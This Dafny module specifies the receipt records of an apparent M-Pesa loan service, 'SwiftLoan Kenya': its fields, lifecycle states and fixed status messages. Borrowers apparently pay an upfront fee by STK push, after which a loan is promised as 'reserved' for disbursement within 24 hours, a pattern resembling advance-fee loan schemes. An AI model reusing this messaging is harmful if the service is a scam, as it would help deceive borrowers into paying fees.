/**
 * The receipt record: a JSON object under its reference in `receipts.json`,
 * its properties, its lifecycle states and the fixed status notes.
 */
module Receipts {
  import opened Wrappers
  import opened JsValues

  /**
   * A stored receipt, as `JSON.parse` gives it back: the ten properties the
   * handlers write (`None` where the property is absent) and, in `others`,
   * any further properties an earlier writer left in the record. A record
   * read from JSON has each property once, so `others` never names one of
   * the ten (`WellFormed`).
   */
  datatype Receipt = Receipt(
    reference: Field,        // reference
    transactionId: Field,    // transaction_id
    transactionCode: Field,  // transaction_code
    amount: Field,           // amount (the fee)
    loanAmount: Field,       // loan_amount
    phone: Field,            // phone
    customerName: Field,     // customer_name
    status: Field,           // status
    statusNote: Option<Note>, // status_note
    timestamp: Field,        // timestamp
    others: map<string, Json>)

  /** The names of the ten properties the handlers write. */
  const PropertyNames: set<string> := {"reference", "transaction_id", "transaction_code", "amount",
    "loan_amount", "phone", "customer_name", "status", "status_note", "timestamp"}

  /** No property is held twice: the extra properties are not among the ten. */
  predicate WellFormed(r: Receipt) {
    forall k :: k in r.others ==> k !in PropertyNames
  }

  /** `{}`, what the callback starts from when no record exists. */
  const EmptyReceipt := Receipt(None, None, None, None, None, None, None, None, None, None, map[])

  // Lifecycle states
  const Pending := "pending"
  const StkFailed := "stk_failed"
  const Error := "error"
  const Processing := "processing"
  const Cancelled := "cancelled"
  const Success := "success"
  const LoanReleased := "loan_released"

  /** The states this core writes or the receipt document knows how to draw. */
  predicate KnownStatus(s: string) {
    s in {Pending, StkFailed, Error, Processing, Cancelled, Success, LoanReleased}
  }

  /** The record's `status` is one of the known states. */
  predicate HasKnownStatus(r: Receipt) {
    r.status.Some? && r.status.value.JStr? && KnownStatus(r.status.value.s)
  }

  /** The loan amount recorded when none was given. */
  const DefaultLoanAmount := "50000"
  /** The placeholder shown and stored for an unknown value. */
  const NotAvailable := "N/A"

  // Status notes

  /**
   * The fixed status notes the handlers write. They are kept symbolic, so
   * that reasoning about a record does not spell out their wording;
   * `MessageText` gives the exact text stored in `status_note`.
   */
  datatype Message =
    | StkSent(phone: string)           // pending
    | StkNotSent                       // stk_failed
    | SystemError                      // error
    | FundsReserved(reference: string) // processing
    | UserCancelled                    // cancelled, result code 1032
    | PinTimeout                       // cancelled, result code 1037
    | InsufficientBalance              // cancelled, result code 2001
    | PaymentFailed                    // cancelled, no description given

  /** A `status_note`: one of the fixed messages, or the aggregator's own `ResultDesc`. */
  datatype Note = Fixed(message: Message) | Described(description: Json)

  function MessageText(m: Message): string {
    match m
    case StkSent(phone) =>
      "STK push  sent to " + phone + ". Please enter your M-Pesa PIN to complete the fee payment and loan disbursement.Withdrawal started..... "
    case StkNotSent => "STK push failed to send. Please try again or contact support."
    case SystemError => "System error occurred. Please try again later."
    case FundsReserved(reference) =>
      "\U{2705} Your fee payment has been received and verified.  \nLoan Reference: " + reference
      + ".  \nYour loan is now in the final processing stage and funds are reserved for disbursement.  \n"
      + "You will receive the amount in your selected account within 24 hours ,an sms will be sent to you.\n"
      + "Thank you for choosing SwiftLoan Kenya."
    case UserCancelled =>
      "You  cancelled the payment request on your phone. Please try again to complete your loan withdrawal.if you had an issue contact us using the chat blue button at the left side of your phone screen for quick help."
    case PinTimeout =>
      "The request timed out. You did not enter your M-Pesa PIN to complete withdrawal request. Please try again."
    case InsufficientBalance =>
      "Payment failed due to insufficient M-Pesa balance. Please top up and try to withdraw again."
    case PaymentFailed => "Payment failed or was cancelled."
  }

  /** The JSON value a note is stored as. */
  function NoteJson(n: Note): Json {
    match n
    case Fixed(m) => JStr(MessageText(m))
    case Described(d) => d
  }

  /** The result codes with a friendlier fixed note. */
  const UserCancelledCode := 1032
  const TimeoutCode := 1037
  const InsufficientBalanceCode := 2001
}
